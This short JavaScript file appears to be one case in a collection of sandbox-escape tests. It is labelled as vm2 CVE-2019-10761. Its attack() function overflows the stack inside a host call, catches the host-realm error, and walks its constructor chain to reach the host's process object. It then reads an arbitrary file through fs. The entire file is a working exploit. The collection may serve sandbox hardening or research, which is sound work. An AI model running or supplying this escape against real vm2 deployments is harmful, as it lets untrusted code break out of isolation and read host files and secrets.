// The stack overflows within a call of the host's, so that the error is the host's own.
// after: read
// source: vm2: CVE-2019-10761
async function attack({ path }) {
  let process;
  const deeper = () => {
    try { deeper(); } catch (error) {
      try { log('x'); } catch (own) { process ??= own.constructor.constructor('return process')(); }
      process ??= error.constructor.constructor('return process')();
    }
  };
  deeper();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
